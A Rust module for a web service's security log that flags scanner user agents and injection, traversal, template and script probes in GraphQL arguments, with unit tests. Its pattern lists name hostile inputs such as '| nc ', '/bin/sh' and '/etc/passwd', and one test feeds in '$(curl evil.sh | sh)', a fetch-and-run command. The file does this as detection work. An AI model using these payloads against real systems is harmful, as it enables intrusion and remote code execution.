//! Recognising hostile traffic for the security log: scanner user agents and injection or traversal
//! probes in GraphQL arguments. Detection only: every query is parameterised and every value is data,
//! so a probe is logged (by kind, never by value) and then handled like any other input.

/// User-agent fragments of well-known attack and scanning tools (lower case).
const SCANNERS: &[&str] = &[
    "sqlmap",
    "nikto",
    "nmap",
    "masscan",
    "zgrab",
    "nuclei",
    "dirbuster",
    "gobuster",
    "wpscan",
    "acunetix",
    "nessus",
    "openvas",
    "havij",
    "w3af",
    "burpsuite",
    "ffuf",
    "feroxbuster",
    "commix",
];

/// The scanner a user agent names, if any.
pub fn scanner(user_agent: &str) -> Option<&'static str> {
    let ua = user_agent.to_ascii_lowercase();
    SCANNERS.iter().copied().find(|s| ua.contains(s))
}

/// Patterns by kind (matched on lower-cased, whitespace-collapsed text).
const PROBES: &[(&str, &[&str])] = &[
    (
        "sql_injection",
        &[
            "' or '1'='1",
            "' or 1=1",
            "\" or 1=1",
            "or 1=1--",
            "union select",
            "; drop table",
            "';--",
            "' --",
            "sleep(",
            "pg_sleep",
            "waitfor delay",
            "information_schema",
        ],
    ),
    (
        "command_injection",
        &[
            "; rm -",
            "| cat ",
            "$(",
            "`id`",
            "; cat /etc",
            "&& whoami",
            "| nc ",
            "/bin/sh",
            "/bin/bash",
        ],
    ),
    ("template_injection", &["{{", "${", "<%=", "#{", "{%"]),
    (
        "path_traversal",
        &["../", "..\\", "%2e%2e", "/etc/passwd", "c:\\windows"],
    ),
    (
        "script_injection",
        &["<script", "javascript:", "onerror=", "<iframe", "<svg/onload"],
    ),
];

/// The kind of probe a string carries, if any.
pub fn probe(text: &str) -> Option<&'static str> {
    let lowered = text.to_lowercase().split_whitespace().collect::<Vec<_>>().join(" ");
    PROBES
        .iter()
        .find(|(_, patterns)| patterns.iter().any(|p| lowered.contains(p)))
        .map(|(kind, _)| *kind)
}

/// Probe kinds found in the string values of a JSON document (GraphQL variables), at most `limit` values looked at.
pub fn probes_in_json(value: &serde_json::Value, limit: usize) -> Vec<&'static str> {
    let mut found = Vec::new();
    let mut stack = vec![value];
    let mut seen = 0;
    while let Some(v) = stack.pop() {
        seen += 1;
        if seen > limit {
            break;
        }
        match v {
            serde_json::Value::String(s) => {
                if let Some(kind) = probe(s) {
                    if !found.contains(&kind) {
                        found.push(kind);
                    }
                }
            }
            serde_json::Value::Array(items) => stack.extend(items),
            serde_json::Value::Object(map) => stack.extend(map.values()),
            _ => {}
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn scanners_are_recognised() {
        assert_eq!(scanner("sqlmap/1.7.2#stable (https://sqlmap.org)"), Some("sqlmap"));
        assert_eq!(scanner("Mozilla/5.0 (Nikto/2.5.0)"), Some("nikto"));
        assert_eq!(scanner("Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0"), None);
    }

    #[test]
    fn probes_are_classified_and_ordinary_text_is_not() {
        assert_eq!(probe("x' OR 1=1 --"), Some("sql_injection"));
        assert_eq!(probe("1 UNION   SELECT password FROM users"), Some("sql_injection"));
        assert_eq!(probe("$(curl evil.sh | sh)"), Some("command_injection"));
        assert_eq!(probe("{{7*7}}"), Some("template_injection"));
        assert_eq!(probe("../../etc/passwd"), Some("path_traversal"));
        assert_eq!(probe("<script>alert(1)</script>"), Some("script_injection"));
        for ordinary in [
            "Grandma's apple pie",
            "1 1/2 cups flour, sifted",
            "Mix; then bake at 180°C",
            "Ça marche",
        ] {
            assert_eq!(probe(ordinary), None, "{ordinary}");
        }
    }

    #[test]
    fn json_values_are_scanned_without_recursion_limits_being_exceeded() {
        let value = serde_json::json!({"a": ["fine", {"b": "' or 1=1"}], "c": "../x"});
        let mut kinds = probes_in_json(&value, 100);
        kinds.sort_unstable();
        assert_eq!(kinds, ["path_traversal", "sql_injection"]);
    }
}
